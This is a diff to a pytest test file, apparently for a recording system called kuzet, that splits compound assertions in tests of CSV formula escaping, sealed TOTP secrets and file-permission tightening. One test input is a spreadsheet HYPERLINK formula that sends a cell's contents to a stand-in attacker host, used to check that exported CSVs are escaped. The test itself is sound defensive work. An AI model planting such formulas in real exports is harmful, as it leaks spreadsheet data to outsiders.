@@ -10,7 +10,6 @@ import signal
 import stat
 import subprocess
 import sys
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -32,8 +31,8 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Gate")'
 
 
 @pytest.fixture
-def world(storage: Any) -> Iterator[World]:
-    yield World(storage, NOW)
+def world(storage: Any) -> World:
+    return World(storage, NOW)
 
 
 def read_csv(text: str) -> list[dict[str, str]]:
@@ -58,7 +57,8 @@ def test_cells_escape_reversibly() -> None:
     for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'", "'=1", "''x", "plain",
                  "", "a=b"):
         written = csvcells.escape(text)
-        assert isinstance(written, str) and not written.startswith(csvcells.FORMULA_STARTS)
+        assert isinstance(written, str)
+        assert not written.startswith(csvcells.FORMULA_STARTS)
         assert csvcells.unescape(written) == undo(written) == text
     assert csvcells.escape(-5) == -5  # numbers stay numbers
     assert csvcells.escape("plain") == "plain"
@@ -80,11 +80,12 @@ def test_a_formula_typed_as_an_account_name_is_escaped_in_the_audit_csv(world: W
         assert not any(cell.startswith(csvcells.FORMULA_STARTS) for cell in row), row
     # An outsider recomputes the chain from the CSV alone, undoing the escape first.
     prev = GENESIS
-    for r in rows:
-        facts = EntryFacts(int(r["seq"]), int(r["at_ns"]), undo(r["actor"]),
-                           undo(r["action"]), undo(r["subject"]), undo(r["detail"]))
-        assert undo(r["prev_hash"]) == prev and entry_hash(prev, facts) == undo(r["hash"])
-        prev = r["hash"]
+    for line in rows:
+        facts = EntryFacts(int(line["seq"]), int(line["at_ns"]), undo(line["actor"]),
+                           undo(line["action"]), undo(line["subject"]), undo(line["detail"]))
+        assert undo(line["prev_hash"]) == prev
+        assert entry_hash(prev, facts) == undo(line["hash"])
+        prev = line["hash"]
     assert len(rows) > 4
 
 
@@ -95,17 +96,21 @@ def test_a_formula_in_a_protocol_location_is_escaped_in_its_register(world: Worl
     r = guard.put(f"/api/protocols/{pid}", json={"location": HYPERLINK})
     assert r.status_code == 200, r.text
     (row,) = read_csv(guard.get("/api/protocols.csv").text)
-    assert row["location"] == "'" + HYPERLINK and row["camera"] == CAM
+    assert row["location"] == "'" + HYPERLINK
+    assert row["camera"] == CAM
 
 
 def test_totp_secrets_are_sealed_at_rest(world: World) -> None:
     world.user("rector", "rector")  # enrols a second factor
     sealed = raw_secret(world, "rector")
-    assert world.secrets["rector"] not in sealed and sealed.startswith("v1:")
+    assert world.secrets["rector"] not in sealed
+    assert sealed.startswith("v1:")
     assert len(sealed) <= 64  # the column's width, which PostgreSQL enforces
     world.login("rector")  # password and TOTP code still work
     key = key_path(world.settings.home.resolve())
-    assert mode(key) == 0o600 and mode(key.parent) == 0o700 and len(key.read_bytes()) == 32
+    assert mode(key) == 0o600
+    assert mode(key.parent) == 0o700
+    assert len(key.read_bytes()) == 32
     box = SecretBox(key)
     assert box.open(sealed, "rector") == world.secrets["rector"]
     with pytest.raises(SecretBoxError):  # bound to its account
@@ -146,18 +151,22 @@ def test_tighten_narrows_what_an_older_installation_left_open(tmp_path: Path) ->
         p.chmod(m)
     assert {(f.path, f.mode) for f in exposed([home])} == set(opened.items())
     tighten([home], depth=1)  # `kuzet serve`: the home and its first level
-    assert mode(home) == 0o700 and mode(home / "exports") == 0o700
+    assert mode(home) == 0o700
+    assert mode(home / "exports") == 0o700
     assert mode(segment.parent) == 0o755
     tighten([home])  # `kuzet init`: everything
     assert list(exposed([home])) == []
-    assert mode(segment) == 0o400 and mode(home / "exports" / "T-1.zip") == 0o600
+    assert mode(segment) == 0o400
+    assert mode(home / "exports" / "T-1.zip") == 0o600
     assert mode(outside) == 0o644  # a link is not followed out of the home
 
 
 def test_init_serve_and_recording_leave_nothing_for_other_users(kuzet: Kuzet) -> None:
     home = kuzet.home
-    assert mode(home) == 0o700 and mode(home / "catalog.db") == 0o600
-    assert mode(home / "kuzet.toml") == 0o600 and mode(home / "tls" / "key.pem") == 0o600
+    assert mode(home) == 0o700
+    assert mode(home / "catalog.db") == 0o600
+    assert mode(home / "kuzet.toml") == 0o600
+    assert mode(home / "tls" / "key.pem") == 0o600
     # An installation from before: files and folders open to everyone.
     for p, m in ((home, 0o755), (home / "catalog.db", 0o644), (kuzet.volume, 0o755)):
         p.chmod(m)
@@ -186,7 +195,8 @@ def test_init_serve_and_recording_leave_nothing_for_other_users(kuzet: Kuzet) ->
     out = kuzet.run("verify")  # warnings do not change the exit status
     warned = {line.split()[1]: line for line in out.stdout.splitlines()
               if line.startswith("WARNING")}
-    assert "0444" in warned[str(segment)] and "0644" in warned[str(home / "catalog.db")]
+    assert "0444" in warned[str(segment)]
+    assert "0644" in warned[str(home / "catalog.db")]
     # SQLite gives the WAL files it makes while verify reads the mode of the catalog.
     assert set(warned) <= {str(segment), *(f"{home / 'catalog.db'}{s}" for s in
                                            ("", "-wal", "-shm"))}, out.stdout
